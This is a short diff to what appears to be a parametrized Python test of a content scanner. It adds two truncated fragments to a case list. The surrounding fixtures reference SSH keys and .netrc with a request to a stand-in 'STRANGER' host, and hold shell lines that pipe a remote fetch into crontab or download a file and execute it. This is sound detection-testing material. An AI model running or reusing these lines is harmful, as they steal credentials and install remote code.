@@ -317,6 +317,8 @@ def test_what_honest_people_tell_agents_is_safe(order: str) -> None:
         ("a.go", f'x := []string{{".ssh/id_rsa", ".netrc"}}\nhttp.Get("{STRANGER}")\n'),
         ("a.sh", f"curl -s {STRANGER}/a | crontab - | at now |\n"),
         ("a.sh", 'sh -c "curl -so g $x; chmod +x g"; ./h\n'),
+        ("a.ex", "x 'curl "),
+        ("a.md", "![a <img alt "),
         ("a.groovy", "n = [1, 2, 3, 4, 5, 6, 7]\ns = n.collect(x)\n"),
     ],
 )
